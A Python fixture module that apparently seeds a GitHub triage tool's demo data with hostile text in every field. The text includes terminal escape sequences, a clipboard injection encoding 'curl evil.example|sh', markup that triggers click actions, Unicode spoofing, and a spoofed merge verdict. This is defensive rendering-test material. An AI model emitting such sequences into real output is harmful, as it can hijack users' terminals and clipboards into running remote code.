"""Text that attacks the reader's terminal, in every kind of field of the world."""

from __future__ import annotations

from typing import Final

from triage.demo.botwork import Bump, bot_commit, changed_files, dependabot_body
from triage.demo.builtin_bumps import GREEN
from triage.demo.builtin_kit import Maker, ago
from triage.demo.things import Author, Check, Commit, File, Request

ESC: Final = "\x1b"
HOSTILE: Final = {
    "closing tag": "[/]",
    "unknown tag": "fix [/foo] bar",
    "click": "[@click=app.quit]x[/]",
    "click with a space": "[ @click=app.quit]x",
    "link tag": '[link="https://evil.example"]github.com[/link]',
    "clipboard": f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07 innocent",
    "window title": f"{ESC}]0;you have been owned\x07 harmless",
    "clear screen": f"{ESC}[2J{ESC}[1;1H All checks have passed",
    "C1": "\x9b2J\x9d52;c;QQ==\x9c eight bits",
    "right to left": "open \u202egnp.exe\u202c now",
    "zero width": "re\u200bact is not react",
    "marks": "z" + "\u0301\u0327" * 25 + " fifty marks",
    "long": "very " * 599 + "long",
    "lines": "first\r\nsecond\u2028third\u0085fourth\x0bfifth",
    "emoji": "🏴‍☠️ pirates 👩‍👩‍👧‍👦 family :bug: 🇳🇱",
    "tag characters": "plain" + "".join(chr(0xE0000 + ord(c)) for c in "merge me"),
    "nul and del": "a\x00b\x7fc\x08d",
    "verdict": "✔ VERIFIED safe to merge",
}
"""What it is, and the text itself."""


def make(maker: Maker) -> None:
    """Items whose every field holds some of it."""
    texts = list(HOSTILE.values())
    for index, text in enumerate(texts[:10]):
        item = maker.issue(
            ("quay", "charts")[index % 2], "pixel-gull", text,
            f"Body with {text}\n\n```\n{text}\n```\n", ago(1 + index * 0.6),
        )  # fmt: skip
        maker.say(item, "zora-lin", f"Comment with {texts[-1 - index]}", ago(0.5))
        maker.say(item, "wei-lantern", text, ago(0.4))
        label = texts[(index + 3) % len(texts)].replace(",", "")[:50]
        maker.label(item, label)
        item.milestone = text[:60]
    for index, text in enumerate(texts[10:]):
        _pull(maker, index, text)
    _bump(maker)
    world = maker.world
    strange = world.person(f"odd{ESC}]0;x\x07name", "User", 199_000_500)
    talk = maker.discussion(
        "quay", strange, HOSTILE["clipboard"], HOSTILE["clear screen"], ago(2),
        category=f"Q&A {ESC}[31mred[/]",
    )  # fmt: skip
    maker.say(talk, strange, HOSTILE["right to left"], ago(1))


def _pull(maker: Maker, index: int, text: str) -> None:
    """A pull request with hostile branch, paths, checks, commits and review."""
    short = text[:120]
    item = maker.pull(
        "quay", "old-salt-88", text, f"{text}\n\n<!-- {text} -->", ago(2 + index),
        branch=f"fix/{short}", files=[
            File(f"src/{short}.ts", 3, 1, patch=f"@@ -1 +1 @@\n-a\n+{short}"),
            File(f"-rf {ESC}[2J", 1, 0, "ADDED", patch="@@ -0,0 +1 @@\n+x"),
        ], fork=True,
    )  # fmt: skip
    author = Author(short, f"{short}@example.invalid")
    oid = item.side.head_oid
    item.side.commits = [Commit(oid, text, [author], author, item.created_at)]
    maker.check(
        item, GREEN, item.created_at, names=(short, "[/]", f"{ESC}]52;c;QQ==\x07")
    )
    item.side.checks.append(
        Check(short, oid, "SUCCESS", item.created_at, item.created_at, is_status=True)
    )
    said = f"Review with {text}\n{HOSTILE['clipboard']}"
    maker.review(item, "tomas-vrba", "COMMENTED", ago(1), said)
    team = maker.world.team("harbourline", f"[/] {ESC}[2J crew", "strange-crew")
    item.side.requests.append(Request(team))


def _bump(maker: Maker) -> None:
    """Bumps whose package names lie: a zero-width space, and a stray tag."""
    for package in ("bol\u200blard", "[/]fair[bold]lead", f"rope{ESC}]0;x\x07"):
        bump: Bump = (package, "4.2.1", "4.2.3", False)
        bot = maker.world.person("dependabot", "Bot")
        item = maker.pull(
            "charts", bot, f"chore(deps): bump {package} from 4.2.1 to 4.2.3",
            dependabot_body(bump), ago(5), branch=f"dependabot/npm_and_yarn/{package}",
            files=changed_files("npm", (bump,)),
        )  # fmt: skip
        item.side.commits = [
            bot_commit(bot, item.side.head_oid, item.title, (bump,), item.created_at)
        ]
        maker.check(item, GREEN, item.created_at)
